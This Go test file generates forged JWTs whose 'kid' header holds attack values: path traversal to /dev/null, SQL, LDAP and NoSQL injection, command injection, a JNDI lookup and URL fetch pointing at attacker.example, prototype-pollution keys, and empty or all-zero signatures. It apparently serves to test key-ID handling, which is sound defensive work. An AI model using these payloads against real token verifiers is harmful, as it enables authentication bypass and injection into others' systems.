package authtest

import (
	"crypto/rsa"
	"strings"
)

const (
	whyKidFile    = "The kid was opened as a file whose content everyone knows (RFC 8725 §3.10)."
	whyKidQuery   = "The kid was put into a query, which answered with the attacker's key (RFC 8725 §3.10)."
	whyKidFetched = "The kid was fetched (RFC 8725 §3.10)."
	whyKidCommand = "The kid was run or expanded (RFC 8725 §3.10)."
	whyKidObject  = "The kid was looked up in an object with inherited members, and one of those became the secret."
	whyKidUnknown = "No key has that ID, and the target used an empty or default key (CVE-2019-20933)."
	whyKidKind    = "A kid that is not a string (RFC 7515 §4.1.4) found a key, " +
		"or it found none and the target used an empty one."
	whyKidZeros = "A key of zeros, under which zeros are right, stands for a key that was not found."
)

// foreignKids are IDs of keys that the target does not have, and the secrets that a
// careless look-up finds.
var foreignKids = []struct{ name, kid, secret, why string }{
	{"path to the empty device", "../../../../../../../../dev/null", "", whyKidFile},
	{"the empty device", "/dev/null", "", whyKidFile},
	{"Windows's empty device", "NUL", "", whyKidFile},
	{"file URL of the empty device", "file:///dev/null", "", whyKidFile},
	{"path with a NUL", "/dev/null\x00.pem", "", whyKidFile},
	{"encoded path", "..%2f..%2f..%2f..%2fdev%2fnull", "", whyKidFile},
	{"file with a known number", "/proc/sys/kernel/randomize_va_space", "2\n", whyKidFile},
	{"file with a known number, trimmed", "/proc/sys/kernel/randomize_va_space", "2", whyKidFile},
	{"backslashes", `..\..\..\..\windows\nul`, "", whyKidFile},
	{"SQL that selects a secret", "x' UNION SELECT '" + attackerSecret + "' -- ", attackerSecret, whyKidQuery},
	{"SQL that selects nothing", "x' AND '1'='2", "", whyKidQuery},
	{"SQL that selects null", `x" UNION SELECT NULL -- `, "null", whyKidQuery},
	{"LDAP filter", "*)(userPassword=*", "", whyKidQuery},
	{"NoSQL operator as text", `{"$ne":""}`, "", whyKidQuery},
	{"URL", "https://attacker.example/key", attackerSecret, whyKidFetched},
	{"data URL", "data:text/plain," + attackerSecret, attackerSecret, whyKidFetched},
	{"command", "$(printf " + attackerSecret + ")", attackerSecret, whyKidCommand},
	{"command after a pipe", "|printf " + attackerSecret, attackerSecret, whyKidCommand},
	{"template", "${''}", "", whyKidCommand},
	{"JNDI", "${jndi:ldap://attacker.example/x}", attackerSecret, whyKidCommand},
	{"__proto__", "__proto__", "[object Object]", whyKidObject},
	{"constructor", "constructor", "function Object() { [native code] }", whyKidObject},
	{"toString", "toString", "function toString() { [native code] }", whyKidObject},
	{"empty", "", "", whyKidUnknown},
	{"unknown", "no-such-key", "", whyKidUnknown},
	{"zero", "0", "", whyKidUnknown},
	{"a star", "*", "", whyKidUnknown},
	{"the kid itself as the secret", "no-such-secret", "no-such-secret", "The kid was used as the secret."},
	{"100,000 bytes", strings.Repeat("k", 100_000), "", whyKidUnknown},
}

// keyIDAttacks name a key that is not the target's. A target compares the kid with its own
// IDs, and does nothing else with it (RFC 8725 §3.10).
func keyIDAttacks(f *forger) {
	alg := f.macAlgorithm()
	signed := func(name, kid, secret, why string) {
		header := headerOf(quote(alg), `"typ":`+quote(f.typ), `"kid":`+kid)
		f.add("kid: "+name, f.tokenBy(signHMAC(hashOf(alg), []byte(secret)), header, f.payload()), why)
	}
	for _, c := range foreignKids {
		signed(c.name, quote(c.kid), c.secret, c.why)
	}
	for _, c := range []struct{ name, kid string }{
		{"null", "null"},
		{"number", "0"},
		{"true", "true"},
		{"array", "[" + quote(f.kid) + "]"},
		{"empty array", "[]"},
		{"operator", `{"$ne":""}`},
		{"object", `{}`},
	} {
		signed(c.name+", empty secret", c.kid, "", whyKidKind)
	}
	if _, ok := f.key.(*rsa.PrivateKey); ok {
		zeros := string(make([]byte, 256))
		header := headerOf(quote(f.alg), `"kid":"no-such-key"`)
		f.add("kid: unknown, RSA signature of zeros", b64(header)+"."+b64(f.payload())+"."+b64(zeros), whyKidZeros)
	}
}
